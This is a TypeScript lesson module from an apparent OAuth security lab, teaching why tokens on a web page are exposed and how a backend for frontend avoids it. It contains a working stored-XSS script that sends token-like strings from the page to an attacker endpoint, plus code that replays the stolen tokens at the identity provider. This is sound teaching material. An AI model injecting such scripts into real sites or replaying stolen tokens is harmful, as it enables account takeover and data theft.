import type { Page } from '#lib/browser/scriptless-browser.ts'
import type { Play } from '../play/play.ts'
import { atReal, NotRefused } from '../play/real-relying-party.ts'
import { runScript } from '../play/run-script.ts'
import { allowed, MoveRefused, refusalOf, Visitor } from '../play/visitor.ts'
import type { Lesson } from '../lesson.ts'

const arrived = 'caught found'
const nothingArrived = 'Nothing has arrived: the script has found nothing on the page that looks like a token.'

/** The script in his review: it sends whatever looks like a token, by whatever name the page calls it. No word of its own is that long. */
const scriptSendingTo = (address: string) => `{
  const page = document.documentElement
  const found = page.outerHTML.match(/[\\w.~-]{30,}/g)
  if (found) fetch('${address}', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ found: found.join(' ') }) })
}`

/** Try one thing as a token of each kind. */
async function tryAsToken ({ curl }: Play, issuer: string, clientId: string, token: string): Promise<{ asAccessToken: Page, asRefreshToken: Page }> {
  const { text } = await curl(`${issuer}/.well-known/openid-configuration`)
  const { userinfo_endpoint: userinfo, token_endpoint: endpoint } = JSON.parse(text) as { userinfo_endpoint: string, token_endpoint: string }
  return {
    asAccessToken: await curl(userinfo, { headers: { authorization: `Bearer ${token}` } }),
    asRefreshToken: await curl(endpoint, { form: { grant_type: 'refresh_token', refresh_token: token, client_id: clientId } })
  }
}

export const tokensOnThePage: Lesson = {
  number: 20,
  slug: 'tokens-on-the-page',
  title: 'What does the page know?',
  buildsOn: [17],
  about: [
    'Whoever has an [[access token]] can use it. If the shop writes its tokens on the page, so that the page can ask the [[provider]] by itself, ' +
    'every script there can read them. And a page can keep no [[client secret]]: this [[client]] has none.',
    'One script too many is enough. The shop shows reviews as they were written, and Mallory’s has a script in it: [[script injection]]. It runs in the ' +
    'browser of whoever reads it, and sends him what looks like a token. With the [[refresh token]] he gets new tokens on his own machine, also ' +
    'after Alice has signed out of the shop.',
    'So tokens stay on the server, and the browser has a [[session cookie]] that no script can read: a [[backend for frontend]]. A script can still do ' +
    'harm while the page is open, but it finds no token to take away.'
  ],
  sources: [
    { title: 'OAuth 2.0 for Browser-Based Applications, section 6.1', url: 'https://datatracker.ietf.org/doc/html/draft-ietf-oauth-browser-based-apps#name-backend-for-frontend-bff' },
    { title: 'RFC 6749, section 2.1', url: 'https://www.rfc-editor.org/rfc/rfc6749#section-2.1' },
    { title: 'RFC 6750, section 1.2', url: 'https://www.rfc-editor.org/rfc/rfc6750#section-1.2' }
  ],
  weakness: { checks: ['keeps-tokens-on-server'] },
  mends: ['keeps-tokens-on-server'],
  choice: 'checks',
  publicClient: true,
  moves: [
    {
      name: 'write-review',
      by: 'mallory',
      says: 'Write a review with a script in it',
      async run (play) {
        const script = scriptSendingTo(`${play.lair}catch`)
        delete play.scene.state.kept[arrived]
        play.keep('script', script)
        await play.signIn(play.mallory, 'mallory')
        const { text } = allowed(await play.mallory.open(`${play.home}reviews`, { form: { text: `Lovely kayaks. Never wet! <script>${script}</script>` } }))
        if (!text.includes(`<script>${script}</script>`)) throw new MoveRefused('The shop shows my script as text: no browser will run it.')
        play.says('My review is on the first page. Whoever reads it sees the first half: the other half is a script, and runs.')
      }
    },
    {
      name: 'read-reviews',
      by: 'alice',
      says: 'Alice signs in at the shop, and reads what others say',
      opens: play => play.home,
      byHand: 'Read Mallory’s review. Of the script in it you see nothing.',
      shownBy: ({ from, to, endpoint, parameters }) => from === 'browser' && to === 'evil' && endpoint === 'catch' && 'found' in parameters,
      async run (play) {
        const page = await play.signIn(play.alice, 'alice')
        const script = play.kept('script')
        if (page.text.includes(`<script>${script}</script>`)) await runScript(script, page, (url, form) => play.alice.request(url, { form }))
      }
    },
    {
      name: 'sign-out',
      by: 'alice',
      says: 'Alice signs out of the shop',
      opens: play => play.home,
      byHand: 'Press “Sign out”.',
      shownBy: ({ from, endpoint, status }) => from === 'browser' && endpoint === 'logout' && status === 303,
      async run (play) {
        allowed(await play.alice.open(`${play.home}logout`, { method: 'POST' }))
      }
    },
    {
      name: 'use-tokens',
      by: 'mallory',
      says: 'Look what has arrived, and try each of it as a token at the provider',
      async run (play) {
        const found = play.scene.state.kept[arrived]
        if (found === undefined) throw new MoveRefused(nothingArrived)
        for (const token of found.split(' ')) {
          const { asAccessToken, asRefreshToken } = await tryAsToken(play, play.realm.issuer, play.clientId, token)
          if (asAccessToken.status === 200) {
            const { name, email } = JSON.parse(asAccessToken.text) as { name: string, email: string }
            play.loot('Alice’s profile, by her access token', `${name}, ${email}`)
          }
          if (asRefreshToken.status === 200) {
            const { access_token: accessToken } = JSON.parse(asRefreshToken.text) as { access_token: string }
            play.loot('A new access token, by her refresh token', accessToken)
          }
        }
        if (play.scene.state.loot.length === 0) throw new MoveRefused('The provider takes nothing of what has arrived for a token.')
        play.says('All this from my own machine, with no cookie of hers. That she signs out of the shop ends none of it.')
      }
    }
  ],
  gain: 'Alice’s tokens, which go on working once she has signed out',
  hints: [
    'Open the source of the shop’s first page, signed in as Alice. What is there for scripts?',
    'You could forbid this one script. But what would the next one find?'
  ],
  solution: 'The shop keeps the tokens in the session on its server, makes the requests that need them itself, and gives the page only what it shows.',
  refusal: nothingArrived,
  onRealRelyingParty: play => atReal(play.scene, async ({ app, idp, username }) => {
    const alice = new Visitor()
    const clientId = new URL((await alice.request(`${app}/login`)).headers.get('location')!).searchParams.get('client_id') ?? ''
    const home = await alice.visit(`${app}/login`, { as: username })
    const found = new Set<string>()
    for (const page of [home, ...await Promise.all(answersForPage.map(path => alice.open(`${app}${path}`)))]) {
      await runScript(scriptSendingTo(`${play.lair}catch`), page, async (_address, form) => form['found']?.split(' ').forEach(one => found.add(one)))
    }

    const words = new Set<string>()
    for (const token of found) {
      const { asAccessToken, asRefreshToken } = await tryAsToken(play, idp.issuer, clientId, token)
      if (asAccessToken.status < 400 || asRefreshToken.status < 400) throw new NotRefused('The relying party of the lab has a token on its page: it should have none.')
      words.add(refusalOf(asAccessToken)).add(refusalOf(asRefreshToken))
    }
    const scripts = /script-src [^;]*/.exec(home.headers.get('content-security-policy') ?? '')?.[0] ?? 'nothing'
    return [
      `Run on its pages as Alice, ${['/', ...answersForPage].join(', ')}, the script finds ${found.size} strings that are as long as a token.`,
      ...found.size === 0 ? [] : [`The provider takes none of them for one: ${[...words].join('; ')}.`],
      `And a browser would not even run it: the policy of the page says ${scripts}.`
    ].join(' ')
  })
}

// What the scripts of its page ask for.
const answersForPage = ['/session', '/api/profile', '/messenger/config']
